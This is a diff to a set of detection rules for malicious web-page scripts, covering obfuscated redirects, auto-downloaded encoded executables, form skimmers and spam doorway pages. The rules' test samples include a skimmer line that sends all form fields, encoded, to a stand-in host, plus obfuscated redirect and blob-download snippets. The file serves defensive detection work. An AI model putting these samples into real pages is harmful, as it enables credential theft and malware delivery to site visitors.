@@ -117,6 +117,9 @@ rule script_from_char_codes {
     must_match = "/* inert */ location.href = String.fromCharCode(104,116,116,112,115,58,47,47,105,110,101,114,116);"
     must_match = "var e = [104,116,116,112,115,58,47,47,105]; location.href = e.map(c => String.fromCharCode(c)).join('');"
     must_match = "<?php exit; echo '<script src=\"' . base64_decode('aHR0cHM6Ly9pbmVydC50ZXN0L2EuanM=') . '\"></script>';"
+    must_match = "/* inert */ if (/google/.test(document.referrer)) location.replace(atob('aHR0cHM6Ly9pbmVydC50ZXN0Lw=='));"
+    must_match = "/* inert */ s.src = String.fromCharCode(104,116,116,112,58,47,47) + 'inert.example.test/a.js';"
+    must_not = "links[i].href = String.fromCharCode(104, 116, 116, 112, 58, 47, 47) + 'www.example.test';"
     must_not = "<?php echo '<script src=\"' . $cdn . '\"></script><img src=\"data:image/png;base64,iVBORw0KGgo=\">';"
     must_not = "a.href = atob(a.dataset.to); img.src = 'data:image/png;base64,' + atob('iVBORw0KGgo=');"
     must_not = "document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,109,101));"
@@ -126,14 +129,15 @@ rule script_from_char_codes {
     $anchor = /document\.write(ln)?\s?\(?\s?String\.fromCharCode\(\s?60\s?,\s?97\s?,\s?32\s?,\s?104\s?,\s?114\s?,\s?101\s?,\s?102\s?,\s?61\s?,\s?34\s?,\s?109\s?,\s?97\s?,\s?105/ nocase
     $escapes = /document\.write(ln)?\s?\(\s?unescape\s?\(\s?['"]%3C%73%63%72%69%70%74/ nocase
     $printed = /<script[^>\n]{0,80}src=[\\"'.\s]{1,8}base64_decode\s?\(\s?["'](aHR0c|Ly)/
-    $address = /(\.(src|href|open)|\blocation|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
+    $address = /(\.(src|href|open)|\blocation|\blocation\.(replace|assign)|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
+    $spelled = /(\.src|\blocation(\.href)?)\s?=\s?String\.fromCharCode\(\s?104\s?,\s?116\s?,\s?116\s?,\s?112\s?,/
     $later = /var \w{1,20}\s?=\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){25}[^;]{0,4000};[^;]{0,80}(createElement|document\.write|appendChild)/ nocase
     $mapped = /[=(]\s?\[\s?104\s?,\s?116\s?,\s?116\s?,\s?112\s?,[^\]]{8,2000}\][^<>]{0,200}(\blocation(\.href)?\s?=|\blocation\.(replace|assign)\s?\(|\.src\s?=|\bopen\s?\()[^;]{0,120}fromCharCode/
     $kept = "base64_decode" nocase private
     // $codes and $later hold it: asked first, it spares most scripts their expressions
     $from = "String.fromCharCode" nocase private
   condition:
-    ($from and ($later or $mapped or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
+    ($from and ($later or $mapped or $spelled or #codes > #anchor)) or ($kept and $printed) or any of ($escapes, $address)
 }
 
 rule tag_in_escapes {
@@ -411,4 +415,75 @@ rule window_opened_by_a_click {
     $once = /\bdocument\.cookie\s?=|\b(local|session)Storage\s?(\.setItem\s?\(|\.\w{1,20}\s?=|\[)/
   condition:
     filesize < 256KB and ($click and $once in (@click[1]..@click[1] + 600) or $jquery and $once in (@jquery[1]..@jquery[1] + 500))
+}
+
+rule file_out_of_the_page {
+  meta:
+    id = "page-script/program-out-of-the-page"
+    title = "A page makes a program out of its own text and downloads it"
+    family = "skimmer-or-phish"
+    severity = "high"
+    confidence = "likely"
+    description = "A program or an archive stands encoded in the page, is put together by a script, and is downloaded without a click, so that no filter on the way sees it."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1027/006/"
+    must_match = "<script>/* inert */ var b = atob('TVqQAAMAAAAEAAAA'); a.href = URL.createObjectURL(new Blob([b])); a.download = 'inert.exe'; a.click();</script>"
+    must_match = "<script>/* inert */ const d = 'UEsDBBQAAAAIAAAA'; a.download = 'inert.zip'; a.href = URL.createObjectURL(new Blob([un(d)])); a.click();</script>"
+    must_not = "<script>a.href = URL.createObjectURL(new Blob([rows])); a.download = 'export.csv'; a.click();</script>"
+    must_not = "<script>zip.generateAsync().then(b => { a.href = URL.createObjectURL(b); a.download = 'photos.zip'; a.click(); });</script>"
+  strings:
+    $made = /createObjectURL\s?\(|msSaveOrOpenBlob\s?\(|msSaveBlob\s?\(/
+    $clicked = /\.click\s?\(\s?\)|msSave(OrOpen)?Blob\s?\(/
+    $program = /["'`][\w .()-]{1,80}\.(exe|scr|jse?|vbs?|vbe|wsf|hta|iso|img|vhdx?|lnk|msi|bat|cmd|ps1|com|dll)["'`]/ nocase
+    $packed = /["'`](TVqQ|TVpQ|TVoA|UEsDB|N3q8r|UmFyIR|Q0QwMDE|TAAAAAEUAg)/
+    $named = /["'`][\w .()-]{1,80}\.(zip|rar|7z|iso|img|exe|pdf\.\w{2,4})["'`]/ nocase
+    $decoded = /\batob\s?\(|fromCharCode|charCodeAt|Uint8Array/
+  condition:
+    filesize < 16MB and $made and $clicked and $decoded and $program and $packed or (filesize < 16MB and $made and $clicked and $named and $packed)
+}
+
+rule fields_of_a_form_in_a_picture {
+  meta:
+    id = "page-script/form-sent-by-a-picture"
+    title = "All that is typed into a form is sent to another host by a picture"
+    family = "skimmer-or-phish"
+    severity = "high"
+    confidence = "likely"
+    description = "A small script gathers every field of the page into one text, encodes it, and asks another host for a picture with that text in its address."
+    remedy = "Delete the lines; then look for the script that writes them again. What was typed since is known to somebody."
+    reference = "https://attack.mitre.org/techniques/T1056/003/"
+    must_match = "f.addEventListener('submit', () => { const d = {}; document.querySelectorAll('input').forEach(i => d[i.name] = i.value); new Image().src = 'https://inert.example.test/p.gif?d=' + btoa(JSON.stringify(d)); });"
+    must_not = "const d = { page: location.pathname }; new Image().src = 'https://stats.example.test/p.gif?d=' + btoa(JSON.stringify(d));"
+  strings:
+    $fields = /(querySelectorAll\s?\(\s?["'`][^"'`]{0,60}\b(input|select)\b|getElementsByTagName\s?\(\s?["'`](input|select)["'`]|\$\s?\(\s?["'`](:input|input)\b)/
+    $values = /\[\s?\w{1,12}(\.name|\.id|\[["']name["']\])[^;]{0,40}\]\s?=\s?\w{1,12}\.value|\.value\b[^;]{0,40}[+|]|\+=[^;]{0,60}\.value\b/
+    $picture = /(new Image\s?(\(\s?\))?\s?\)?\.src|\bimg\.src|\.src)\s?=\s?["'`](https?:)?\/\/[^"'`]{4,120}["'`]?\s?[+$]/
+    $coded = /\b(btoa|encodeURIComponent|encodeURI)\s?\(/
+    $whole = /\b(btoa|encodeURIComponent)\s?\(\s?(btoa\s?\(\s?)?(unescape\s?\(\s?)?JSON\.stringify\s?\(/
+  condition:
+    filesize < 24KB and $fields and $values and $picture and $coded and $whole
+}
+
+rule page_for_searches_that_leads_away {
+  meta:
+    id = "page-script/doorway-of-spam"
+    title = "A page of spam words leads whoever opens it elsewhere"
+    family = "doorway-cloak-redirect"
+    severity = "high"
+    confidence = "likely"
+    description = "A small page names several goods of spammers for search engines and sends visitors to another host at once."
+    remedy = "Delete the page and those like it, and look for the script that makes them."
+    reference = "https://attack.mitre.org/techniques/T1608/006/"
+    must_match = "<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\"><a>viagra</a> <a>cialis online</a> <a>online casino</a>"
+    must_not = "<meta http-equiv=\"refresh\" content=\"0;url=https://inert.example.test/\"><p>The casino of our village has moved.</p>"
+    must_not = "<meta http-equiv=\"refresh\" content=\"300\"><p>viagra, cialis and casino are words that this filter knows</p>"
+  strings:
+    $away = /http-equiv\s?=\s?["']?refresh["']?\s{1,3}content\s?=\s?["']\s?[0-5]\s?;\s?url\s?=\s?["']?https?:\/\// nocase
+    $script = /<script[^>]{0,80}>\s{0,40}(window\.|top\.|document\.|self\.)?location(\.href)?\s?(=|\.replace\s?\(|\.assign\s?\()\s?["'`]https?:\/\// nocase
+    $pills = /\b(viagra|cialis|levitra|sildenafil|tadalafil|xanax|tramadol|phentermine)\b/ nocase
+    $games = /\b(online casino|casino online|slot gacor|togel|judi online|poker online|sports betting|slots online)\b/ nocase
+    $loans = /\b(payday loans?|replica (watch|handbag)\w{0,3}|cheap (jerseys|nfl jerseys|louis vuitton)|essay writing service)\b/ nocase
+    $adult = /\b(porn|xxx videos?|escort girls?|sex cams?)\b/ nocase
+  condition:
+    filesize < 64KB and ($away or $script) and (2 of ($pills, $games, $loans, $adult) or #pills > 2 or #games > 2)
 }
